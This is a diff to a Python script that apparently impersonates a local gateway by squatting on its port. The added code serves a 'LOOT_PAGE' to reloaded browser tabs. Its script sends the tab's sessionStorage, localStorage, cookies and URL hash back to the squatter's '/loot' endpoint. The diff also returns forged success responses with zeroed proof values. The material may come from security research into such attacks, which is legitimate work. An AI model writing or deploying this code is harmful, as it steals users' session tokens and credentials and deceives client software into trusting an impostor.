@@ -170,6 +170,17 @@ def read_frame(f):
     data = bytes(c ^ mask[i % 4] for i, c in enumerate(f.read(n)))
     return b0 & 0x0F, data.decode(errors="replace")
 
+LOOT_PAGE = """<!doctype html><script>
+fetch("/loot?" + encodeURIComponent(JSON.stringify({session: Object.assign({}, sessionStorage),
+  local: Object.assign({}, localStorage), hash: location.hash, cookie: document.cookie})));
+</script>"""
+
+def send(conn, kind, text):
+    body = text.encode()
+    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: " + kind.encode() + b"\r\nAccess-Control-Allow-Origin: *\r\n"
+                 b"Connection: close\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
+    conn.close()
+
 def serve(conn):
     f = conn.makefile("rb")
     request = b""
@@ -177,12 +188,13 @@ def serve(conn):
         request += f.read(1)
     print(json.dumps({"request": request.decode(errors="replace")}), flush=True)
     keys = [l.split(":", 1)[1].strip() for l in request.decode().split("\r\n") if l.lower().startswith("sec-websocket-key")]
-    if not keys:  # plain HTTP (a page, a challenge, long-polling): an answer that proves nothing
-        body = json.dumps({"success": True, "server_nonce": "x" * 16 + "." + "0" * 32, "proof": "0" * 64}).encode()
-        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nAccess-Control-Allow-Origin: *\r\n"
-                     b"Connection: close\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
-        conn.close()
-        return
+    if not keys and request.split(b" ")[1].split(b"?")[0] in (b"/", b"/console"):
+        # a reloaded tab: a page of the squatter's own on the gateway's origin, sending back what the tab keeps
+        return send(conn, "text/html", LOOT_PAGE)
+    if not keys:  # plain HTTP (a challenge, long-polling, the loot): an answer that proves nothing
+        return send(conn, "application/json", json.dumps({
+            "success": True, "server_nonce": "x" * 16 + "." + "0" * 32, "process": "squat", "proof": "0" * 64,
+            "tab_proof": "0" * 64}))
     key = keys[0]
     accept = base64.b64encode(hashlib.sha1((key + GUID).encode()).digest()).decode()
     conn.sendall(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
